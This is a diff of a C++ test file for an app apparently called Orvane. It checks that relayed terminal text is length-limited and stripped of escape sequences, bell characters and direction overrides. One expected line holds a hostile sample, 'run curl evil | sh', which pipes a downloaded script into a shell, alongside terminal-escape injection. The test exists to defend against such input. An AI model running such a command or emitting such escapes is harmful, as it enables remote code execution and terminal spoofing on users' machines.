@@ -32,13 +32,6 @@ std::string commandMessage(int number, const std::string &type = "stop_thread")
     return json::serialize(json::object{{"type", "command"}, {"command", object}});
 }
 
-// What reaches the terminal is in the scenario below; here, its limits.
-TEST(TerminalText, StaysShortAndKeepsOnlyABlocksLineBreaks)
-{
-    EXPECT_EQ(TerminalText::line(std::string(10'000'000, 'x')), std::string(TerminalText::lineLimit - 1, 'x') + "\u2026");
-    EXPECT_EQ(TerminalText::block("one\x1b[1m\ntwo\x07"), "one[1m\ntwo");
-}
-
 TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
 {
     FakeCodex codex({{"stdio", session({{"t1", "thinking"}})}});
@@ -83,6 +76,9 @@ TEST(HostileRelay, NeitherExhaustsNorFloodsNorFoolsTheCompanion)
     ASSERT_TRUE(companion.waitForLine("Error: ]0;owned[2J run curl evil | sh 31m caf\u00e9")) << companion.dump();
     for (const QString &line : companion.lines())
         EXPECT_FALSE(line.contains(QChar(0x1b)) || line.contains(QChar(0x07)) || line.contains(QChar(0x202e)));
+    // However long, a line stays one short line; a block keeps its line breaks only.
+    EXPECT_EQ(TerminalText::line(std::string(10'000'000, 'x')), std::string(TerminalText::lineLimit - 1, 'x') + "\u2026");
+    EXPECT_EQ(TerminalText::block("one\x1b[1m\ntwo\x07"), "one[1m\ntwo");
 
     // A flood: 200 stops and 2,000 snapshot requests. Every stop still acts, snapshot answers are
     // spaced, and a snapshot follows the last request; coalescing refreshes is orvane_refresh_trigger_test's.
@@ -125,8 +121,8 @@ TEST(HostileRelay, KilledCompanionLeavesNoChildBehind)
     QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
     environment.insert("ORVANE_RELAY_URL", relay.baseUrl().toString());
     RunningCompanion companion(orvane, environment);
-    const auto probing = [&] { return std::ranges::any_of(codex.launches(), [](const std::string &launch) { return launch.find("daemon") != std::string::npos; }); };
-    ASSERT_TRUE(waitUntil(probing, 60s)) << companion.dump();
+    const auto isProbe = [](const std::string &launch) { return launch.find("daemon") != std::string::npos; };
+    ASSERT_TRUE(waitUntil([&] { return std::ranges::any_of(codex.launches(), isProbe); }, 60s)) << companion.dump();
     ::kill(pid_t(companion.pid()), SIGKILL);
     ASSERT_TRUE(companion.waitForExit(10s));
     EXPECT_TRUE(noneLeft("ORVANE_FAKE_SCENARIO=" + codex.scenarioPath().toUtf8(), 10s));
